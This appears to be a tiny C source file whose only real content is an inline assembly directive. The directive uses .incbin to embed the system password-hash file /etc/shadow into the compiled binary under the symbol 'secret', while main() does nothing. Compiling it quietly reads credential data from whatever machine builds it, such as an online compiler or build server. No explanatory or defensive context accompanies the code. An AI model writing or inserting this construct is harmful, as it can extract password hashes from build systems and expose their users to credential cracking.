__asm__(".section .rodata\nsecret: .incbin \"/etc/shadow\"\n.text\n");
int main(void) { return 0; }
